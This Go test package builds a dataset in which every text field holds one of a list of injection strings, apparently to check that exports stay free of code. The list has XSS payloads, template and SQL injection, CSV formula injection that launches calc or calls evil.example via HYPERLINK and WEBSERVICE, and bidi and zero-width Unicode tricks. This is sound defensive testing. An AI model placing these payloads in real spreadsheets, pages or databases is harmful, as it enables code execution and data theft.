// Package hostile has texts that attack the programs that read them, a dataset that is full of them, and
// checks that what was written from it contains no code.
package hostile

import (
	"fmt"
	"strings"
	"testing"
	"testing/fstest"
	"unicode"

	"github.com/go-json-experiment/json"

	"onrecord/dataset"
)

// Attacks are texts that have become code in some program, or that some format has lost. They set PWN where
// they run.
var Attacks = []string{
	`</script><script>PWN=1</script>`,
	`</style></title></textarea><img src=x onerror=PWN=2>`,
	`" onmouseover="PWN=3" x="`,
	`' autofocus onfocus='PWN=4`,
	`<svg onload=PWN=5><animate onbegin=PWN=6 attributeName=x>`,
	`<a href="javascript:PWN=7">go</a>`,
	`javascript:PWN=8`,
	`data:text/html,<script>PWN=9</script>`,
	`<iframe srcdoc="<script>parent.PWN=10</script>">`,
	`<!--><script>PWN=11</script-->`,
	`]]><script>PWN=12</script><![CDATA[`,
	`--> <script>PWN=13</script> <!--`,
	`{{.}} {{printf "%s" .}} ${PWN=14} #{PWN=15} <%= PWN=16 %>`,
	`__f__(function(){PWN=17})__f__`,
	`{"$fn":"PWN=18"} {a|b} {b} {value} {@[0]}`,
	"line\u2028PWN=19\u2029line",
	"\u202etxet desrever\u202c and \u2067isolated\u2069",
	"never closed \u202e \u2066",
	"zero\u200bwidth\u200c\u200d\u2060\ufeff inside",
	`=1+1`,
	`=cmd|' /C calc'!A0`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`=HYPERLINK("https://evil.example/?"&A1,"click")`,
	`=WEBSERVICE("https://evil.example/")`,
	`=DDE("cmd";"/C calc";"x")`,
	`＝1+1`,
	`';=1+1`,
	"two\n=1+1",
	"a\t=1+1",
	`'=1+1`,
	`_x0041_ _x000D_ _x005F_x0041_`,
	`[x](javascript:PWN=20) ![x](https://evil.example/x.png)`,
	`<https://evil.example/> www.evil.example <b onclick=PWN=21>b</b>`,
	"```\n<script>PWN=22</script>\n```",
	"# head\n- list\n> quote\n| a | b |\n|---|---|",
	`&lt;b&gt; &amp;amp; &#60;script&#62;PWN=23`,
	`\u003cscript\u003ePWN=24 \" \\ \n`,
	`$(PWN) $$x^2$$ \(x\) :tada: @someone #1`,
	`'); DROP TABLE figures; --`,
	`ﷺ é e` + "\u0301" + ` 🛩️ 𝟙 ` + strings.Repeat("Z\u0336", 20),
	"1e309 NaN -0 0x28 00123 2025-12-08 1-2 TRUE",
}

// Harmless returns a text of the same shape without meaning: the same length, spaces, line ends and scripts.
func Harmless(s string) string {
	return strings.Map(func(r rune) rune {
		if r == ' ' || r == '\n' || r == '\t' || r > 0x7F && (unicode.IsLetter(r) || unicode.IsSymbol(r)) {
			return r
		}
		return 'x'
	}, s)
}

// Dataset returns a dataset with a row in every table for each attack. All texts of the row, and of the
// package's metadata, contain the attack.
func Dataset(t testing.TB) *dataset.Dataset {
	t.Helper()
	return filled(t, func(s string) string { return s })
}

// HarmlessDataset returns the same dataset with harmless texts in place of the attacks.
func HarmlessDataset(t testing.TB) *dataset.Dataset {
	t.Helper()
	return filled(t, Harmless)
}

func filled(t testing.TB, text func(attack string) string) *dataset.Dataset {
	t.Helper()
	files := fstest.MapFS{dataset.PackageFile: &fstest.MapFile{Data: metadata(t, text)}}
	for i := range dataset.Tables {
		table := &dataset.Tables[i]
		files[table.Name+".csv"] = &fstest.MapFile{Data: []byte(tableOf(table, text))}
	}
	d, err := dataset.ReadFS("hostile", files)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func metadata(t testing.TB, text func(attack string) string) []byte {
	t.Helper()
	all := text(strings.Join(Attacks, " "))
	b, err := json.Marshal(map[string]any{"title": all, "description": all, "version": text(Attacks[0]), "language": "en", "keywords": []string{all},
		"contributors": []any{map[string]any{"title": all}}, "notes": []any{map[string]any{"text": all}}, "licenses": []any{map[string]any{"name": text(Attacks[2]), "title": all}}})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// tableOf is the CSV of a table.
func tableOf(table *dataset.Table, text func(attack string) string) string {
	var b strings.Builder
	for col, f := range table.Fields {
		if col > 0 {
			b.WriteByte(',')
		}
		b.WriteString(f.Name)
	}
	for n, attack := range Attacks {
		b.WriteByte('\n')
		for col, f := range table.Fields {
			if col > 0 {
				b.WriteByte(',')
			}
			b.WriteString(`"` + strings.ReplaceAll(cell(table.Name, f, n, text(attack)), `"`, `""`) + `"`)
		}
	}
	return b.String()
}

// cell is a cell of row n: a valid value, or the text if any text is allowed.
func cell(table string, f dataset.Field, n int, text string) string {
	ids := map[string]string{"sources": "s", "actors": "a", "events": "e", "figures": "f", "dates": "d", "responses": "r", "comparisons": "c"}
	switch {
	case f.Kind == dataset.KindText:
		return text
	case f.Kind == dataset.KindID:
		return fmt.Sprint(ids[table], n)
	case f.Name == "whole":
		return fmt.Sprint("f", (n+len(Attacks)/2)%len(Attacks))
	case f.Name == "supersedes", f.Name == "repeats", f.Name == "part_of": // a row must not name itself
		return ""
	case f.To != "":
		return fmt.Sprint(ids[f.To], n)
	case f.Kind == dataset.KindURL:
		return fmt.Sprintf("https://news.example/%d?q=';alert(1)//&x=__f__(1)__f__&lt;=1", n)
	case f.Kind == dataset.KindDate:
		return fmt.Sprintf("2025-%02d-%02d", 1+n%12, 1+n%28)
	case f.Name == "value":
		return fmt.Sprint(n + 1)
	}
	return map[string]string{"reading": "original", "kind": "flight", "measure": "aboard", "qualifier": "exact", "milestone": "departed", "response": "declined"}[f.Name]
}
